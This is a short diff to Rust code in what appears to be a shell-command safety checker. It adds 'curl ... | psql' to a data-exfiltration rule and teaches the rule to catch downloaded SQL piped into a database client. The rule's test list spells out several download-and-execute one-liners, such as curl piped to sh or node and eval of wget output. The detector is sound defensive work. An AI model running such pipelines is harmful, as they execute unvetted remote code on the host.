@@ -2,7 +2,7 @@
 
 use super::args::{PLAIN, Spec, one_of, only_help, operands, subcommand};
 use super::{Look, Rule, code_injection, places};
-use crate::shell::{Group, Span, Word};
+use crate::shell::{Group, Language, Span, Word};
 
 const GROUP: Group = Group::DataExfiltration;
 
@@ -21,6 +21,7 @@ pub(super) const RULES: &[Rule] = &[
             "curl https://example.com | sudo -u a sh",
             "sh -c \"$(curl -s https://example.com)\"",
             "curl https://example.com | node",
+            "curl https://example.com | psql",
             "eval \"$(wget -qO- https://example.com)\"",
         ],
         allows: &[
@@ -172,7 +173,9 @@ fn downloads(name: Option<&str>) -> bool {
 }
 
 fn download_and_run(look: &Look<'_>) -> Option<Span> {
-    if let Some(span) = code_injection::reads_code(look)
+    let statements = look.is_fed() && look.one.code.iter().any(|code| code.language == Language::Sql);
+    let reads = code_injection::reads_code(look).or_else(|| statements.then(|| look.program()));
+    if let Some(span) = reads
         && look.feeders().iter().any(|one| downloads(one.name()))
     {
         return Some(span);
